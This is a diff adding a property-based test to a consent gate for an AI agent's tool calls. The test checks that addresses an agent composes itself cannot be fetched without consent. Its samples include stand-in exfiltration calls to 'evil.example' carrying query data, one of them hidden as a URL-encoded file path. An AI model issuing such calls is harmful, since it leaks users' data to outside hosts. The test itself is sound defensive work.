@@ -303,6 +303,47 @@ def test_the_same_holds_for_any_tool_that_what_it_is_given_leaves(call: ToolCall
     assert gate(effect=ToolEffect.READS, words=Provenance.FOREIGN, texts=texts).needs_consent(call) is asks
 
 
+named = st.sampled_from(
+    [
+        ToolCall("recall", {"query": COMPOSED}),
+        ToolCall("share_file", {"name": "a.txt", "content": COMPOSED}),
+        ToolCall("remember", {"text": f"It is at {COMPOSED}."}),
+        ToolCall("fetch.get", {"url": COMPOSED}),
+        ToolCall("fetch.get", {"host": "evil.example", "path": "/?q=heron"}),
+        ToolCall("files.read", {"path": "evil.example%2F%3Fq%3Dheron"}),
+        fetch(COMPOSED),
+    ]
+)
+unasked = st.sampled_from([Consent.NOT_NEEDED, Consent.REFUSED, Consent.EXPIRED, Consent.EDITED, Consent.AWAITED])
+
+
+@given(
+    st.lists(st.tuples(named, unasked, st.booleans(), st.sampled_from(ResultStatus)), max_size=3),
+    st.sampled_from(Provenance),
+    st.frozensets(st.sampled_from([FETCH, "fetch.get", "files.read", "recall"])),
+    st.sampled_from(["", "* * * yes", "web_fetch * * yes", "fetch.* * * ask"]),
+)
+def test_no_sequence_of_calls_lets_an_address_leave_that_nobody_wrote(
+    calls: list[tuple[ToolCall, Consent, bool, ResultStatus]],
+    words: Provenance,
+    standing: frozenset[str],
+    table: str,
+) -> None:
+    steps = [
+        RoundStep(
+            calls=(call,),
+            results=(ToolResult(call.name, status, f"Found: {COMPOSED}", audience="team:t" if others else ""),),
+            consents=(consent,),
+        )
+        for call, consent, others, status in calls
+    ]
+    texts = ["Look at https://a.example/ and evil.example"]
+    echoes = gate(table, READS, words, Progress(tuple(steps)), standing, texts)
+    assert echoes.needs_consent(fetch(COMPOSED))
+    assert echoes.needs_consent(ToolCall("fetch.get", {"url": COMPOSED}))
+    assert not echoes.needs_consent(fetch("https://a.example/")) or table == "fetch.* * * ask"
+
+
 def test_no_word_of_earlier_lets_what_was_put_together_be_fetched() -> None:
     table, standing = "web_fetch * * yes", frozenset({FETCH})
     before = fetching("https://a.example/", ResultStatus.SUCCESS)
